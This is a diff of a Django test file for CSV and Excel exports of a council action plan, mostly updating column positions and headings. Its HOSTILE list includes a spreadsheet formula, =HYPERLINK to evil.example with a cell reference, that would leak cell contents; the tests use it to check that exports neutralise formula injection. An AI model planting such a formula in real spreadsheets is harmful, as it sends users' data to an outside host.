@@ -19,16 +19,19 @@ from tests.conftest import build_period, build_plan
 
 HEADINGS = [
     "Section",
-    "Key outcome",
+    "Key Outcome",
+    "Ref",
     "Action",
     "Lead",
-    "By when",
-    "Deadline",
-    "Status",
+    "By when?",
+    "Deadline date",
+    "Overdue",
+    "Progress",
     "RAG",
-    "Latest progress",
+    "Status",
     "Last updated",
 ]
+ACTION = HEADINGS.index("Action")
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "+SUM(1,2)",
@@ -53,8 +56,10 @@ def csv_rows(response) -> list[list[str]]:
 
 
 def xlsx_rows(response) -> list[list]:
-    sheet = load_workbook(io.BytesIO(response.content)).active
-    return [list(row) for row in sheet.iter_rows(values_only=True)]
+    """The heading row, then every sheet's rows, sheet by sheet."""
+    sheets = load_workbook(io.BytesIO(response.content)).worksheets
+    rows = [list(row) for sheet in sheets for row in sheet.iter_rows(values_only=True)]
+    return [rows[0]] + [row for row in rows if row != rows[0]]
 
 
 def add_update(action, narrative: str, rag: str = Rag.GREEN) -> None:
@@ -100,13 +105,15 @@ def test_csv_has_the_columns_councils_know_and_the_latest_update_of_each_action(
         [
             "Care leavers",
             "Care leavers have a home",
+            "1.1",
             action.description,
             f"Aa Health; {lead}",
             "March 2030",
             "2030-03-31",
-            "Open",
-            "Amber",
+            "No",
             "Homes found for 12",
+            "Amber",
+            "Open",
             timezone.localdate().isoformat(),
         ],
     ]
@@ -123,13 +130,13 @@ def test_downloads_hold_every_row_the_filters_select_not_one_page(client, counci
 
     for file_format, read in [("csv", csv_rows), ("xlsx", xlsx_rows)]:
         whole = read(client.get(export_url(plan, file_format, "page=2")))
-        assert [row[2] for row in whole[1:]] == unrated + extras, file_format
+        assert [row[ACTION] for row in whole[1:]] == unrated + extras, file_format
         chosen = read(client.get(export_url(plan, file_format, f"key_outcome={outcome.pk}")))
-        assert [row[2] for row in chosen[1:]] == extras, file_format
+        assert [row[ACTION] for row in chosen[1:]] == extras, file_format
         not_rated = read(client.get(export_url(plan, file_format, "rag=none")))
-        assert [row[2] for row in not_rated[1:]] == unrated, file_format
+        assert [row[ACTION] for row in not_rated[1:]] == unrated, file_format
         worst_first = read(client.get(export_url(plan, file_format, "sort=rag")))
-        assert [row[2] for row in worst_first[1:]] == extras + unrated, file_format
+        assert [row[ACTION] for row in worst_first[1:]] == extras + unrated, file_format
 
 
 @pytest.mark.django_db
@@ -145,13 +152,13 @@ def test_excel_has_real_dates_a_bold_frozen_heading_and_filter_buttons(client, c
     assert [cell.value for cell in sheet[1]] == HEADINGS
     assert sheet["A1"].font.b
     assert sheet.freeze_panes == "A2"
-    assert sheet.auto_filter.ref == "A1:J2"
-    assert sheet["F2"].value == datetime.datetime(2030, 3, 31)
-    assert sheet["F2"].number_format == "d mmm yyyy"
-    assert sheet["J2"].value.date() == timezone.localdate()
+    assert sheet.auto_filter.ref == "A1:L2"
+    assert sheet["G2"].value == datetime.datetime(2030, 3, 31)
+    assert sheet["G2"].number_format == "d mmm yyyy"
+    assert sheet["L2"].value.date() == timezone.localdate()
     assert sheet["I2"].value == "Line one\nLine two"
     assert sheet["I2"].alignment.wrap_text
-    assert sheet["H2"].value == "Green"
+    assert sheet["J2"].value == "Green"
 
 
 @pytest.mark.django_db
@@ -165,12 +172,12 @@ def test_text_that_a_spreadsheet_would_run_is_written_as_text(client, council, o
     client.force_login(owner)
 
     row = csv_rows(client.get(export_url(plan, "csv")))[1]
-    assert [row[i] for i in (2, 3, 4, 8)] == [f"'{hostile}"] * 4
+    assert [row[i] for i in (3, 4, 5, 8)] == [f"'{hostile}"] * 4
     raw = client.get(export_url(plan, "csv")).content.decode("utf-8-sig")
     assert raw.splitlines()[1].startswith('"Care leavers",')  # every field quoted
 
     sheet = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content)).active
-    for cell in (sheet["C2"], sheet["D2"], sheet["E2"], sheet["I2"]):
+    for cell in (sheet["D2"], sheet["E2"], sheet["F2"], sheet["I2"]):
         assert cell.data_type != "f", cell.coordinate
         # A carriage return may come back as a line feed (the XML parser openpyxl reads with
         # decides: lxml, present with python-docx, keeps it); what matters is the apostrophe.
@@ -190,9 +197,9 @@ def test_excel_drops_characters_it_cannot_hold_and_still_guards_what_follows(
     sheet = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content)).active
 
     assert sheet["I2"].value == "'=1+1 pasted from Wordwith a vertical tab"
-    assert sheet["C2"].value == ("Long " * 8000)[:32_766] + "…"  # Excel holds 32,767 at most
+    assert sheet["D2"].value == ("Long " * 8000)[:32_766] + "…"  # Excel holds 32,767 at most
     row = csv_rows(client.get(export_url(plan, "csv")))[1]
-    assert (row[8], row[2]) == (narrative, "Long " * 8000)
+    assert (row[8], row[3]) == (narrative, "Long " * 8000)
 
 
 @pytest.mark.django_db
@@ -287,9 +294,9 @@ def test_an_action_with_no_leads_update_or_section_shows_its_lead_in_words_and_e
     client.force_login(owner)
 
     row = csv_rows(client.get(export_url(plan, "csv")))[1]
-    assert (row[0], row[3], row[8], row[9]) == ("", "Director of Children's Services", "", "")
+    assert (row[0], row[4], row[8], row[11]) == ("", "Director of Children's Services", "", "")
     sheet = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content)).active
-    assert [sheet[f"{column}2"].value for column in "ADIJ"] == [
+    assert [sheet[f"{column}2"].value for column in "AEIL"] == [
         None,
         "Director of Children's Services",
         None,
@@ -308,9 +315,9 @@ def test_last_updated_is_the_day_of_the_latest_update_in_the_councils_time_zone(
     ProgressUpdate.objects.update(created_at=written)
     client.force_login(owner)
 
-    assert csv_rows(client.get(export_url(plan, "csv")))[1][9] == "2026-05-14"
+    assert csv_rows(client.get(export_url(plan, "csv")))[1][11] == "2026-05-14"
     sheet = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content)).active
-    assert sheet["J2"].value == datetime.datetime(2026, 5, 14)
+    assert sheet["L2"].value == datetime.datetime(2026, 5, 14)
 
 
 @pytest.mark.django_db
@@ -321,7 +328,7 @@ def test_excel_keeps_a_cell_of_exactly_32767_characters_whole(client, council, o
 
     sheet = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content)).active
 
-    assert sheet["C2"].value == "x" * 32_767
+    assert sheet["D2"].value == "x" * 32_767
 
 
 @pytest.mark.django_db
@@ -333,15 +340,16 @@ def test_excel_names_its_sheet_and_title_and_sizes_and_aligns_its_columns(client
     workbook = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content))
 
     sheet = workbook.active
-    assert workbook.sheetnames == ["Actions"]
+    assert workbook.sheetnames == ["Care leavers"]
     assert workbook.properties.title == "Corporate Parenting Action Plan"
-    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJ"]
-    assert widths == [18, 32, 50, 24, 16, 12, 16, 16, 60, 12]
+    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKL"]
+    assert widths == [18, 32, 6, 50, 24, 16, 12, 9, 60, 16, 16, 12]
     cells = sheet[2]
-    assert [cell.alignment.wrap_text for cell in cells] == [True] * 5 + [None] * 3 + [True, None]
+    wraps = [True, True, None, True, True, True, None, None, True, None, None, None]
+    assert [cell.alignment.wrap_text for cell in cells] == wraps
     assert {cell.alignment.vertical for cell in cells} == {"top"}
-    assert sheet["J2"].number_format == "d mmm yyyy"
-    assert sheet["E2"].number_format == "General"
+    assert sheet["L2"].number_format == "d mmm yyyy"
+    assert sheet["F2"].number_format == "General"
 
 
 CUT = "corporate-parenting-action-plan-for-children-in-care-2024"
